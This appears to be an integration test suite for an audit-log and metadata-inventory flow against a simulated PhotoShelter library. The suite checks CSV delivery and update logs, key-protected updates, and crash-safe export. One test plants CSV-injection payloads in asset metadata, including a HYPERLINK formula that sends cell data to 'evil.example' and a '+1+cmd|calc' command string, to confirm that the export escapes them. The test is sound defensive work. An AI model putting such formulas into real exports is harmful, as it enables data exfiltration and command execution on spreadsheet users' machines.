import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { appendFileSync, existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startSim, type MediaTruth, type SimHandle, photoshelterEnv } from '../helpers/sim';
import { waitFor } from '../helpers/wait';
import { startRuntime, type Runtime, pollAfterChange } from './runtime';
import { parseCsv } from '../helpers/files';

const FLOW = join(__dirname, '..', '..', 'examples', '7 Audit log and metadata inventory.json');
/** INVENTORY_SCOPE's default: "Annual Report" of the seed-1 library. */
const DEFAULT_SCOPE = 'C0000IrfNDAAAAAB';
const DELIVERY_COLUMNS = ['time', 'assetId', 'fileName', 'version', 'action', 'destination', 'location', 'bytes', 'sha256', 'skipped', 'dryRun', 'durationMs', 'error'];
const UPDATE_COLUMNS = ['time', 'assetId', 'action', 'changed', 'fields', 'changes', 'reapplied', 'dryRun', 'error'];


/** The rows of a CSV file as objects; checks that the header is the first line and only there. */
function readTable(file: string, columns?: string[]): Array<Record<string, string>> {
  const text = readFileSync(file, 'utf8');
  if (text === '') return []; // created, not written yet
  assert.ok(text.endsWith('\n'), 'the file ends with a line break');
  const [header, ...rows] = parseCsv(text);
  if (columns) assert.deepEqual(header, columns);
  for (const r of rows) {
    assert.notDeepEqual(r, header, 'the header is written once');
    assert.equal(r.length, header.length, `a full row: ${r.join(',')}`);
  }
  return rows.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]])));
}

/** The key of the audited update endpoint, as the demo sets one. */
const AUDITED_UPDATE_KEY = 'job7-test-audit-key-0123456789abcdef';

describe('example 7, audit log and metadata inventory, as shipped in a real runtime', function () {
  this.timeout(180_000);
  let sim: SimHandle;
  let red: Runtime;
  let outDir: string;
  let audit: string;
  let flows: unknown[];

  const poll = async () => assert.equal((await red.admin('POST', '/photoshelter/trigger/job7.approved/poll')).status, 200);
  const settleAndPoll = () => pollAfterChange(sim, red, ['job7.approved']);
  const deliveries = () => (existsSync(join(audit, 'deliveries.csv')) ? readTable(join(audit, 'deliveries.csv'), DELIVERY_COLUMNS) : []);
  const updates = () => (existsSync(join(audit, 'updates.csv')) ? readTable(join(audit, 'updates.csv'), UPDATE_COLUMNS) : []);
  const update = async (body: unknown) => {
    const res = await fetch(`${red.url}/photoshelter/audited-update`, { method: 'POST', headers: { 'content-type': 'application/json', authorization: `Bearer ${AUDITED_UPDATE_KEY}` }, body: JSON.stringify(body) });
    return { status: res.status, json: (await res.json()) as Record<string, unknown> };
  };
  const truths = async () => Promise.all((await sim.control.mediaIds()).map((id) => sim.control.media(id)));

  before(async () => {
    sim = await startSim({ strict: true, seed: 1, assets: 60 });
    outDir = mkdtempSync(join(tmpdir(), 'ps-job7-'));
    audit = join(outDir, 'audit');
    // INVENTORY_SCOPE is left unset: the flow's default names a collection of this library
    red = await startRuntime({
      env: {
        ...photoshelterEnv(sim),
        PHOTOSHELTER_OUT_DIR: outDir,
        AUDITED_UPDATE_KEY,
      },
    });
    flows = JSON.parse(readFileSync(FLOW, 'utf8')) as unknown[];
    await red.deploy(flows);
    await poll();
  });
  after(async () => {
    await red?.stop();
    await sim?.close();
    rmSync(outDir, { recursive: true, force: true });
  });

  it('deploys without an error', () => {
    assert.doesNotMatch(red.output(), /\[error\]/, red.output().slice(-2000));
  });

  let delivered: MediaTruth;
  it('audits a delivery: one row with the asset, its version, location, bytes and sha256', async () => {
    const pending = (await truths()).find((t) => t.custom['Approval Status'] === 'Pending' && t.type === 'image' && t.file_size < 2_000_000);
    assert.ok(pending);
    delivered = await sim.control.patchMedia(pending.id, { custom: { 'Approval Status': 'Approved' } });
    await settleAndPoll();
    await waitFor(() => deliveries().length >= 1, 'the delivery row');
    const rows = deliveries();
    assert.equal(rows.length, 1, JSON.stringify(rows));
    const [row] = rows;
    const file = join(audit, 'delivered', `${pending.id} ${pending.file_name}`);
    const bytes = readFileSync(file);
    const original = Buffer.from(await (await fetch(`${sim.url}/__sim/files/${delivered.id}/${delivered.version}/original`)).arrayBuffer());
    assert.equal(row.assetId, pending.id);
    assert.equal(row.fileName, pending.file_name);
    assert.ok(row.version.startsWith(`${pending.file_size}-${pending.width}x${pending.height}-`), row.version);
    assert.equal(row.action, 'put');
    assert.equal(row.destination, 'audited folder');
    assert.ok(row.location.endsWith(`${pending.id} ${pending.file_name}`), row.location);
    assert.equal(Number(row.bytes), pending.file_size);
    assert.equal(row.sha256, createHash('sha256').update(original).digest('hex'));
    assert.equal(row.sha256, createHash('sha256').update(bytes).digest('hex'));
    assert.equal(row.skipped, 'false');
    assert.equal(row.dryRun, 'false');
    assert.match(row.durationMs, /^\d+$/);
    assert.equal(row.error, '');
    assert.ok(Math.abs(Date.parse(row.time) - Date.now()) < 60_000, row.time);
  });

  it('audits a repeated approval of the same version as skipped, after a redeploy, without a second header', async () => {
    await red.deploy(flows);
    await sim.control.patchMedia(delivered.id, { custom: { 'Approval Status': 'Pending' } });
    await settleAndPoll();
    await sim.control.patchMedia(delivered.id, { custom: { 'Approval Status': 'Approved' } });
    await settleAndPoll();
    await waitFor(() => deliveries().length >= 2, 'the second delivery row');
    const rows = deliveries();
    assert.equal(rows.length, 2);
    assert.equal(rows[1].assetId, delivered.id);
    assert.equal(rows[1].skipped, 'true');
    assert.equal(rows[1].version, rows[0].version);
    assert.equal(rows[1].location, rows[0].location);
    assert.equal(readFileSync(join(audit, 'deliveries.csv'), 'utf8').split('\n').filter((l) => l.startsWith('time,')).length, 1);
  });

  it('audits metadata updates: what changed, before and after; a repeat as unchanged; a failure with its reason', async () => {
    const [id] = await sim.control.mediaIds();
    const before = await sim.control.media(id);
    const first = await update({ id, fields: { Campaign: 'Audit, "2027"', caption: 'Checked for the audit' } });
    assert.equal(first.status, 200, JSON.stringify(first.json));
    assert.equal(first.json.changed, true);
    assert.equal((await sim.control.media(id)).custom.Campaign, 'Audit, "2027"');
    await waitFor(() => updates().length >= 1, 'the update row');
    const again = await update({ id, fields: { Campaign: 'Audit, "2027"' } });
    assert.equal(again.json.changed, false);
    const bad = await update({ id: 'I0000nothingHere', fields: { Campaign: 'x' } });
    assert.equal(bad.status, 400);
    await waitFor(() => updates().length >= 3, 'all three update rows');
    const [changed, unchanged, failed] = updates();
    assert.equal(changed.assetId, id);
    assert.equal(changed.action, 'update');
    assert.equal(changed.changed, 'true');
    assert.deepEqual(changed.fields.split('; ').sort(), ['Campaign', 'caption']);
    const changes = JSON.parse(changed.changes) as Record<string, { before: unknown; after: unknown }>;
    assert.deepEqual(changes.Campaign, { before: before.custom.Campaign, after: 'Audit, "2027"' });
    assert.deepEqual(changes.caption, { before: before.iptc.caption, after: 'Checked for the audit' });
    assert.equal(changed.error, '');
    assert.equal(unchanged.assetId, id);
    assert.equal(unchanged.changed, 'false');
    assert.equal(unchanged.fields, '');
    assert.equal(failed.assetId, 'I0000nothingHere');
    assert.equal(failed.changed, 'false');
    assert.notEqual(failed.error, '', 'the reason');
    assert.equal(readFileSync(join(audit, 'updates.csv'), 'utf8').split('\n').filter((l) => l.startsWith('time,')).length, 1);
  });

  it('refuses an update without the key (401) and writes nothing', async () => {
    const [id] = await sim.control.mediaIds();
    const rowsBefore = updates().length;
    await sim.control.clearRequests();
    for (const authorization of [undefined, 'Bearer wrong', `Basic ${Buffer.from(`x:${AUDITED_UPDATE_KEY}`).toString('base64')}`]) {
      const res = await fetch(`${red.url}/photoshelter/audited-update`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', ...(authorization ? { authorization } : {}) },
        body: JSON.stringify({ id, fields: { Campaign: 'Hijacked' } }),
      });
      assert.equal(res.status, 401, String(authorization));
      const answer = (await res.json()) as { error: string };
      assert.match(answer.error, /AUDITED_UPDATE_KEY/);
      assert.ok(!JSON.stringify(answer).includes(AUDITED_UPDATE_KEY), 'the key is not in the answer');
    }
    assert.equal((await sim.control.requests()).filter((r) => r.method !== 'GET').length, 0, 'nothing was written');
    assert.notEqual((await sim.control.media(id)).custom.Campaign, 'Hijacked');
    assert.equal(updates().length, rowsBefore, 'and nothing audited as an update');
  });

  /** The media under INVENTORY_SCOPE's default, from the simulator's truth. */
  const scopeIds = async (): Promise<string[]> => {
    const state = await sim.control.state();
    const inTree = new Set([DEFAULT_SCOPE]);
    for (let grew = true; grew; ) {
      grew = false;
      for (const c of state.collections) if (c.parent && inTree.has(c.parent) && !inTree.has(c.id)) grew = Boolean(inTree.add(c.id));
    }
    const galleries = state.galleries.filter((g) => g.parents.some((p) => inTree.has(p)));
    return [...new Set((await Promise.all(galleries.map((g) => sim.control.mediaIds(g.id)))).flat())];
  };

  it('exports the inventory of the scope: the header once, one row per asset, values as in PhotoShelter, and a summary', async () => {
    const ids = await scopeIds();
    assert.ok(ids.length >= 10, `the default scope has media (${ids.length})`);
    // metadata that a spreadsheet would run as a formula (OWASP CSV injection)
    const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    await sim.control.patchMedia(ids[0], { iptc: { caption: FORMULA, title: '+1+cmd|calc', headline: '-2', city: '@SUM(A1)' } });
    assert.equal((await red.admin('POST', '/inject/job7.inv.now')).status, 200);
    await waitFor(() => /inventory complete/.test(red.output()), 'the summary', 60_000);
    const [name] = readdirSync(audit).filter((f) => /^inventory-\d{4}-\d{2}-\d{2}\.csv$/.test(f));
    assert.ok(name, readdirSync(audit).join(', '));
    const rows = readTable(join(audit, name));
    assert.equal(rows.length, ids.length, 'one row per asset');
    assert.deepEqual(rows.map((r) => r.id).sort(), [...ids].sort());
    const formulaRow = rows.find((r) => r.id === ids[0]) as Record<string, string>;
    assert.equal(formulaRow.caption, `'${FORMULA}`, 'a formula is written as text');
    assert.equal(formulaRow.title, "'+1+cmd|calc");
    assert.equal(formulaRow.headline, "'-2");
    assert.equal(formulaRow.city, "'@SUM(A1)");
    for (const r of rows.filter((x) => x.id !== ids[0])) {
      const t = await sim.control.media(r.id);
      assert.equal(r.fileName, t.file_name);
      assert.equal(Number(r.width), t.width);
      assert.equal(Number(r.height), t.height);
      assert.equal(Number(r.fileSize), t.file_size);
      assert.equal(r.title, t.iptc.title ?? '');
      assert.equal(r.caption, t.iptc.caption ?? '');
      assert.equal(r.countryCode, t.iptc.country_iso ?? '');
      assert.equal(r.approvalStatus, t.custom['Approval Status'] ?? '', `${r.id} approval status`);
      assert.equal(r.licenseExpires, t.custom['License Expiration Date'] ?? '', `${r.id} licence expiry`);
      assert.equal(r.campaign, t.custom.Campaign ?? '');
      assert.equal(r.region, t.custom.Region ?? '');
      assert.deepEqual(r.keywords ? r.keywords.split('; ') : [], t.iptc.keywords ? t.iptc.keywords.split(', ') : []);
      assert.ok(r.path.length > 0, 'the path');
    }
    const header = readFileSync(join(audit, name), 'utf8').split('\n')[0];
    assert.ok(header.startsWith('id,fileName,path,'), header);
    const summary = red.output().slice(red.output().indexOf('inventory complete'));
    assert.match(summary, new RegExp(`assets: ${ids.length}|"assets":${ids.length}`));
    assert.doesNotMatch(red.output(), /\[error\]/, red.output().slice(-2000));
  });
  it('a resumed inventory repeats no row: after a crash whose position store lagged behind the file, and a row cut short', async () => {
    const ids = await scopeIds();
    const name = `inventory-${new Date().toISOString().slice(0, 10)}.csv`;
    const file = join(audit, name);
    const dataRows = () => (existsSync(file) ? readFileSync(file, 'utf8').split('\n').length - 2 : 0);
    // the walk's position as the trigger has it on disk (its state file)
    const onDisk = join(red.userDir, 'photoshelter', 'triggers', 'job7_inv_walk.json');
    const walkOnDisk = (): { id: string; acked: number; done: boolean } | undefined => {
      try {
        return (JSON.parse(readFileSync(onDisk, 'utf8')) as { state?: { walk?: { id: string; acked: number; done: boolean } } }).state?.walk;
      } catch {
        return undefined;
      }
    };
    const previous = walkOnDisk()?.id;
    // slow reads of each asset's parts, so that the export is still running when the process dies
    await sim.control.faults({ route: '^/media/[^/]+/(iptc|custom-metadata)$', latencyMs: 400 });
    assert.equal((await red.admin('POST', '/inject/job7.inv.now')).status, 200);
    let snapshot = '';
    await waitFor(() => {
      const w = walkOnDisk();
      if (w && w.id !== previous && !w.done) snapshot = readFileSync(onDisk, 'utf8');
      return snapshot !== '';
    }, 'the new walk in the trigger\'s state file', 30_000);
    const ackedThen = walkOnDisk()?.acked ?? 0;
    await waitFor(() => dataRows() >= Math.min(ackedThen + 3, ids.length - 1), 'more rows in the file than the stored position knows', 60_000);
    await red.crash();
    const rowsAtCrash = dataRows();
    assert.ok(rowsAtCrash < ids.length, 'the export was cut off');
    // a state written before these rows were acknowledged: the resumed walk sends them again
    writeFileSync(onDisk, snapshot);
    assert.ok(rowsAtCrash > ackedThen, `rows ${rowsAtCrash} beyond the stored position ${ackedThen}`);
    // and the last append was cut short by the crash
    appendFileSync(file, `${ids[0]},"a row the crash cut sh`);
    await sim.control.clearFaults();
    red = await startRuntime({ userDir: red.userDir, env: { ...photoshelterEnv(sim), PHOTOSHELTER_OUT_DIR: outDir, AUDITED_UPDATE_KEY } });
    await waitFor(() => /inventory complete/.test(red.output()), 'the resumed export to complete', 60_000);
    const rows = readTable(file);
    assert.deepEqual(rows.map((r) => r.id).sort(), [...ids].sort(), 'each asset of the scope once');
    assert.ok(rows.every((r) => r.fileName !== '' && r.path !== ''), 'no row cut short');
    assert.match(red.output(), /Removed an incomplete last row/);
    assert.match(red.output(), new RegExp(`assets: ${ids.length}|"assets":${ids.length}`));
    assert.doesNotMatch(red.output(), /\[error\]/, red.output().slice(-2000));
  });
});
